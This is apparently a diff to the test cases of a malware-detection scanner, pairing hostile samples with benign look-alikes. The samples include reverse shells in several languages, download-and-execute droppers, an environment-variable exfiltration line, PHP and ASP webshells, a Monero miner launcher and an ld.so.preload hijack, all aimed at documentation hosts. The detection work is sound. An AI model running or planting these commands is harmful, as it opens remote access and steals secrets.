@@ -83,7 +83,12 @@ fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
         (
             "packers.Packer_UPX_ELF",
             elf(b"....UPX!....payload....UPX!...."),
-            elf(b"ordinary program text"),
+            // The UPX tool itself: the marker in its stubs, but an ELF file with sections.
+            {
+                let mut tool = elf(b"....UPX!....stub....UPX!....");
+                tool[0x3C..0x3E].copy_from_slice(&30u16.to_le_bytes());
+                tool
+            },
         ),
         (
             "packers.Packer_UPX_PE",
@@ -119,6 +124,106 @@ fn cases() -> Vec<(&'static str, Vec<u8>, Vec<u8>)> {
             "persistence.Persistence_LdPreloadHijack",
             b"echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload\n".to_vec(),
             b"cat /etc/ld.so.preload\nldd /bin/ls\n".to_vec(),
+        ),
+        (
+            "eicar.ClamAV_Test_File",
+            [b"MZ".as_slice(), &[0u8; 62], b"KERNEL32.DLL\0ExitProcess\0USER32.DLL\0CLAMessageBoxA\0"].concat(),
+            [b"MZ".as_slice(), &[0u8; 62], b"scanned by ClamAV; see clamav.net for test files"].concat(),
+        ),
+        (
+            "packers.Packer_PE_Known",
+            pe_with_sections([b".aspack\0", b".adata\0\0"]),
+            pe_with_sections([b".text\0\0\0", b".data\0\0\0"]),
+        ),
+        (
+            "coinminers.CoinMiner_RandomX_Binary",
+            elf(b"\xFC\xA1\xF5\x59\x8A\x97\x0A\x81 ... stratum+tcp:// ... --donate-level=N ... rx/0 ..."),
+            elf(b"a pool proxy: stratum+tcp:// --donate-level=N rx/0 without a miner's code"),
+        ),
+        (
+            "coinminers.CoinMiner_MoneroWallet_Launcher",
+            b"./kswapd0 -o pool.example.org:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD -p x\n".to_vec(),
+            b"Donations (XMR): 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_ScriptPipesDownloadToShell",
+            b"#!/bin/sh\ncurl -fsSL https://get.example.org/install.sh | sh\n".to_vec(),
+            b"To install, run:\n\n    curl -fsSL https://get.example.org/install.sh | sh\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_FetchChmodRun",
+            b"#!/bin/sh\ncurl -O https://dl.example.org/agent && chmod +x agent && ./agent\n".to_vec(),
+            b"#!/bin/sh\ncurl -O https://dl.example.org/agent.tar.gz && tar xf agent.tar.gz\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_ScriptDownloadExecute",
+            b"import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.7/s.py').read())\n".to_vec(),
+            b"import urllib.request\ndata = urllib.request.urlopen(url).read()\nexec_time = 3\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_PowerShell_WebRequestRun",
+            b"iex (iwr http://198.51.100.7/x.ps1 -UseBasicParsing)\n".to_vec(),
+            b"Install with:\n```powershell\niex (iwr https://example.org/install.ps1 -UseBasicParsing)\n```\n".to_vec(),
+        ),
+        (
+            "droppers.Dropper_Bitsadmin_Download",
+            b"bitsadmin /transfer job /download /priority high http://198.51.100.7/u.exe C:\\u.exe\n".to_vec(),
+            b"bitsadmin /list /allusers /verbose\n".to_vec(),
+        ),
+        (
+            "droppers.Stealer_JS_EnvironmentExfiltration",
+            b"const os=require('os');const d=JSON.stringify({h:os.hostname(),e:process.env});require('https').request({host:'x.example',method:'POST'}).end(d);\n".to_vec(),
+            b"console.log(JSON.stringify({ env: process.env.NODE_ENV, host: os.hostname() }));\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_Socat",
+            b"socat TCP:198.51.100.7:4444 EXEC:/bin/sh\n".to_vec(),
+            b"socat TCP-LISTEN:8080,fork TCP:localhost:80\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_FifoRelay",
+            b"mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 198.51.100.7:443 > /tmp/s\n".to_vec(),
+            b"mkfifo /tmp/log.pipe\nopenssl s_client -connect example.org:443 < /dev/null\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_PHP",
+            b"<?php $sock=fsockopen(\"198.51.100.7\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\"); ?>\n".to_vec(),
+            b"<?php $fp = fsockopen('example.org', 80); fwrite($fp, \"GET / HTTP/1.0\\r\\n\\r\\n\"); ?>\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_RubyLuaAwkZsh",
+            b"ruby -rsocket -e 'f=TCPSocket.open(\"198.51.100.7\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'\n".to_vec(),
+            b"require 'socket'\ns = TCPSocket.open('example.org', 80)\ns.puts 'GET /'\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_NodeNetSpawn",
+            b"var net=require('net'),cp=require('child_process'),sh=cp.spawn('/bin/sh',[]);var c=new net.Socket();c.connect(4444,'198.51.100.7',function(){c.pipe(sh.stdin);sh.stdout.pipe(c);});\n".to_vec(),
+            b"const sh = require('child_process').spawn('sh', ['-c', 'ls']); sh.stdout.pipe(process.stdout);\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_PowerShellTcpClient",
+            b"$c = New-Object System.Net.Sockets.TCPClient('198.51.100.7',443);$s = $c.GetStream();while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$o = (iex $d 2>&1 | Out-String)}\n".to_vec(),
+            b"$c = New-Object System.Net.Sockets.TCPClient('example.org', 443); $c.Connected\n".to_vec(),
+        ),
+        (
+            "reverse_shells.ReverseShell_GoDialExec",
+            b"c, _ := net.Dial(\"tcp\", \"198.51.100.7:4444\")\ncmd := exec.Command(\"/bin/sh\")\ncmd.Stdin = c; cmd.Stdout = c\ncmd.Run()\n".to_vec(),
+            b"c, _ := net.Dial(\"tcp\", addr)\nout, _ := exec.Command(\"ls\").Output()\n".to_vec(),
+        ),
+        (
+            "webshells.Webshell_PHP_EncodedEval",
+            b"<?php eval(gzinflate(base64_decode('80jNyclXCM8vyklRBAA='))); ?>\n".to_vec(),
+            b"<?php $img = base64_decode('iVBORw0KGgo='); echo $img; ?>\n".to_vec(),
+        ),
+        (
+            "webshells.Webshell_PHP_RequestToDynamicCode",
+            b"<?php $f = $_GET['f']; $f($_GET['a']); ?>\n".to_vec(),
+            b"<?php $page = $_GET['page']; echo htmlspecialchars($page); ?>\n".to_vec(),
+        ),
+        (
+            "webshells.Webshell_ASP_EvalRequest",
+            b"<% eval request(\"pass\") %>\n".to_vec(),
+            b"<% Response.Write(Server.HTMLEncode(Request(\"name\"))) %>\n".to_vec(),
         ),
         (
             "persistence.AntiForensics_LogWiper",
